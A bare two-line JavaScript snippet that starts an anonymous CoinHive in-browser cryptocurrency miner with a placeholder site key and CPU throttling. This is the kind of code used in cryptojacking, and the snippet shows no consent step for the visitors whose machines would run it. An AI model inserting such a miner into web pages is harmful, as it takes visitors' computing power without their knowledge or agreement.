const miner = new CoinHive.Anonymous('SITE_KEY', { throttle: 0.1 });
miner.start();
